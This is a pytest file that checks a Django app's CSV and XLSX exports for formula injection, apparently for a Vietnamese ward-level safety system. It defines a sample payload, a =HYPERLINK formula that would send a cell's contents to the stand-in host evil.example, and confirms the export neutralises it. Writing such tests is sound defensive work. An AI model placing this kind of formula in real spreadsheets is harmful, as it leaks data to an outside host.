"""Exports never carry a live spreadsheet formula, whatever a unit or an import row is named."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from safeward.analytics import exports
from safeward.analytics.synthetic import SYNTHETIC
from safeward.core.csvsafe import csv_safe
from safeward.geo import services as geo_services

HEADER = [
    "unit_code",
    "custodian_kind",
    "custodian_label",
    "latitude",
    "longitude",
    "bearing",
    "fov",
    "range_m",
    "installed_on",
]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def evil_unit(
    personas: dict[str, Any], demo_units: dict[str, Any], record: Callable[..., Any]
) -> Any:
    unit = geo_services.unit_create(
        personas["province_admin"], parent=demo_units["cua_ong"], code="QN-EVIL-1", name=EVIL
    )
    record(unit, dt.date(dt.date.today().year, 1, 5), "theft")
    return unit


def test_children_csv_writes_a_formula_name_as_inert_text(
    evil_unit: Any, client_for: Callable[[str], Any], demo_units: dict[str, Any]
) -> None:
    path = reverse("analytics:chart_csv", args=[demo_units["cua_ong"].pk, "children"])
    response = client_for("ward_officer").get(path + f"?indicator={SYNTHETIC}")
    assert response.status_code == 200, response
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    [row] = [r for r in rows if EVIL in r[0]]
    assert row[0] == "'" + EVIL
    assert float(row[1]) == 1.0


def test_xlsx_report_stores_a_formula_name_as_a_string(evil_unit: Any) -> None:
    today = dt.date.today()
    unit = evil_unit.parent
    content = exports.report_content(unit, dt.date(today.year, 1, 1), today, lambda _p: None)
    book = load_workbook(io.BytesIO(exports.render_xlsx(content)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    [cell] = [c for c in cells if isinstance(c.value, str) and EVIL in c.value]
    assert cell.data_type == "s" and cell.value == EVIL
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.data_type == "n" for c in cells)


def test_numbers_stay_numbers_and_every_formula_start_is_neutralised() -> None:
    assert csv_safe(-12.5) == -12.5 and csv_safe(0) == 0
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(start + "1+1") == "'" + start + "1+1"
    assert csv_safe("Phường Cửa Ông") == "Phường Cửa Ông"
